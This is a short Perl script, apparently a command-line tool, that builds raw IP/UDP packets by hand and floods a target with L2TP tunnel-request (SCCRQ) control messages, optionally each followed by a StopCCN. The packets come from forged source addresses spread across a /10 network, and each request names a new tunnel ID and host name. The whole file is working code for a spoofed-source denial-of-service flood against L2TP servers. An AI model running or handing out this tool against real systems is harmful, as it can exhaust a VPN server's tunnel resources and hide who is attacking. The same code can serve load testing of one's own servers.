# Sends control messages from forged sources: strangers.pl TO SECONDS PER_SECOND KIND NETWORK. Prints how many SCCRQs.
# KIND is `requests` (SCCRQs alone) or `pairs` (each SCCRQ followed by the StopCCN that takes it back).
# Sources are NETWORK/10 with any port; every SCCRQ names another Tunnel ID and Host Name (RFC 2661 §6.1, §6.4).
use strict;
use warnings;
use Socket;
use Time::HiRes qw(sleep time);

my ($to, $seconds, $rate, $kind, $network) = @ARGV;
my $destination = inet_aton($to);
my $base = unpack 'N', inet_aton($network);
socket(my $raw, AF_INET, SOCK_RAW, 255) or die "raw socket: $!\n"; # IPPROTO_RAW: the IP header is ours

sub avp { my ($type, $value) = @_; pack('nnna*', 0x8000 | 6 + length $value, 0, $type, $value) }

sub transmit {
	my ($source, $port, $ns, $avps) = @_;
	my $l2tp = pack('nnnnnna*', 0xc802, 12 + length $avps, 0, 0, $ns, 0, $avps);
	my $udp = pack('nnnna*', $port, 1701, 8 + length $l2tp, 0, $l2tp);
	my $ip = pack('CCnnnCCna4a4', 0x45, 0, 20 + length $udp, 0, 0, 64, 17, 0, $source, $destination);
	send($raw, $ip . $udp, 0, pack_sockaddr_in(0, $destination));
}

my $sent = 0;
for (my $start = time; (my $passed = time - $start) < $seconds; sleep 0.005) {
	for (; $sent < $rate * $passed; $sent++) {
		my $id = avp(9, pack 'n', 1 + int rand 65535);
		my $source = pack('N', $base | int rand 1 << 22);
		my $port = 1024 + int rand 60000;
		transmit($source, $port, 0, avp(0, pack 'n', 1) . avp(2, pack 'CC', 1, 0) . avp(3, pack 'N', 3)
			. avp(7, "forged-$sent") . $id . avp(10, pack 'n', 4));
		transmit($source, $port, 1, avp(0, pack 'n', 4) . $id . avp(1, pack 'n', 1)) if $kind eq 'pairs';
	}
}
print "$sent\n";
